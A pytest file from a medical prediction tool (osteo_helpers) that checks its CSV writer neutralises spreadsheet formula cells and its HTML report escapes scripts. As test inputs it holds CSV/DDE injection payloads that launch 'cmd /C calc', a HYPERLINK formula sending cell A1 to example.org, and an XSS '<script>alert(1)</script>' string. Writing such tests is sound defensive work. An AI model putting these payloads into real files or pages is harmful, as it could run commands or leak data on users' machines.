"""No CSV cell a spreadsheet would run as a formula (issue 31.3): every table goes through one writer
(`fileio.csv_bytes`), which puts a quote before text starting with =, +, -, @, a tab or a carriage
return; the project's own readers (`fileio.read_csv`) take it off, so its tables read back exactly.

The commands' files are checked cell by cell as a spreadsheet would read them: Python's csv module
gives each raw cell, and one that starts with a formula character must be a number.
"""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import numpy as np
import pandas as pd

from osteo_helpers import arms
from osteo_helpers.cli import main
from osteo_helpers.fileio import atomic_to_csv, csv_bytes, read_csv

FORMULAS = ['=HYPERLINK("http://example.org/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "-12"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def _number(cell: str) -> bool:
    try:
        return not math.isnan(float(cell))
    except ValueError:
        return False


def formula_cells(path: Path) -> list[str]:
    """The cells of a CSV file a spreadsheet would run as formulas (text starting with a formula character)."""
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row if cell.startswith(STARTS) and not _number(cell)]


def test_text_cells_are_neutralised_numbers_kept_and_the_table_reads_back_exactly():
    ids = [*FORMULAS, "\tTAB", "\r=1+1", "'=already quoted", "'plain quote", "N7", "O'Brien", None]
    table = pd.DataFrame({"patient_id": ids, "p": np.linspace(-0.5, 0.5, len(ids)), "n": range(-5, len(ids) - 5),
                          "flag": [True, False] * (len(ids) // 2) + [True] * (len(ids) % 2),
                          "site": pd.Series(["=site"] * len(ids), dtype="category")})
    table.loc[len(ids) - 1, "p"] = np.nan
    data = csv_bytes(table.rename(columns={"site": "=site column"}))
    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
    assert rows[0] == ["patient_id", "p", "n", "flag", "'=site column"]
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] + ["'\tTAB", "'\r=1+1", "''=already quoted",
                                                                       "'plain quote", "N7", "O'Brien", ""]
    assert rows[1][1] == "-0.5" and rows[1][2] == "-5" and {r[4] for r in rows[1:]} == {"'=site"}
    back = read_csv(io.BytesIO(data), dtype={"patient_id": str}).rename(columns={"=site column": "site"})
    assert back["patient_id"].tolist()[:-1] == ids[:-1] and pd.isna(back["patient_id"].iloc[-1])
    pd.testing.assert_frame_equal(back[["p", "n", "flag"]], table[["p", "n", "flag"]])
    assert back["site"].tolist() == table["site"].tolist()


def test_predict_out_neutralises_the_patient_id(saved_bundle, real_data_dir, tmp_path, capsys):
    image = sorted((real_data_dir / "normal").iterdir())[0]
    out = tmp_path / "one.csv"
    assert main(["predict", "--model", str(saved_bundle[1]), "--image", str(image), "--age", "63", "--sex", "female",
                 "--patient-id", FORMULAS[0], "--out", str(out)]) == 0, capsys.readouterr().err
    assert formula_cells(out) == []
    raw = next(csv.DictReader(out.open(newline="")))
    assert raw["patient_id"] == "'" + FORMULAS[0] and float(raw["t_score_mean"]) < 5  # numbers stay numbers
    assert read_csv(out, dtype={"patient_id": str})["patient_id"].tolist() == [FORMULAS[0]]


def test_validate_tables_hold_no_formula_and_its_report_escapes_them(saved_bundle, real_data_dir, make, tmp_path,
                                                                      capsys):
    ids = [*FORMULAS, *(f"K{i}" for i in range(7))]
    sites = ["=1+1", "+site", "@site", "-site", "<script>alert(1)</script>"]
    spec = make.real_cohort(real_data_dir, tmp_path / "cohort", ids, sites)
    table = (tmp_path / "cohort" / "table.csv").read_text().splitlines()
    table[2] = table[2].replace('"51"', '"300"')  # an impossible age: the second patient is refused
    (tmp_path / "cohort" / "table.csv").write_text("\n".join(table) + "\n")
    out = tmp_path / "validation"
    assert main(["validate", "--model", str(saved_bundle[1]), "--cohort", str(spec), "--out", str(out),
                 "--n-boot", "20"]) == 0, capsys.readouterr().err
    for name in ("predictions.csv", "metrics.csv", "refused.csv"):
        assert formula_cells(out / name) == [], name
    predictions = read_csv(out / "predictions.csv", dtype={"patient_id": str})
    assert sorted(predictions["patient_id"]) == sorted(set(ids) - {FORMULAS[1]})
    assert read_csv(out / "refused.csv", dtype={"patient_id": str})["patient_id"].tolist() == [FORMULAS[1]]
    assert set(sites) - {"+site"} <= set(read_csv(out / "metrics.csv")["site"])
    page = (out / "report.html").read_text()
    assert "<script>alert(1)" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_the_fold_cache_and_the_oof_table_keep_ids_that_look_like_formulas(cohort, profile, tmp_path):
    """An out-of-fold table made, saved and read back from the fold cache: the same IDs, exactly."""
    rows, folds, _ = cohort
    rename = dict(zip(rows["patient_id"], [*FORMULAS, *rows["patient_id"][len(FORMULAS):]], strict=True))
    rows = rows.assign(patient_id=rows["patient_id"].map(rename))
    folds = folds[folds["seed"] == 5].assign(patient_id=lambda f: f["patient_id"].map(rename))

    def run() -> pd.DataFrame:
        return arms.cross_validate("clinical", rows, folds, "binary", profile=profile, cache=tmp_path,
                                   progress_bar=False, screening=False)

    first = run()
    assert formula_cells(tmp_path / "clinical" / "binary" / "seed5_fold0" / "predictions.csv") == []
    again = run()  # every fold read back from its cache
    pd.testing.assert_frame_equal(again, first, check_exact=True)
    assert set(FORMULAS) <= set(again["patient_id"])
    atomic_to_csv(again, tmp_path / "oof.csv")
    pd.testing.assert_frame_equal(read_csv(tmp_path / "oof.csv", dtype={"patient_id": str}), again,
                                  check_dtype=False)
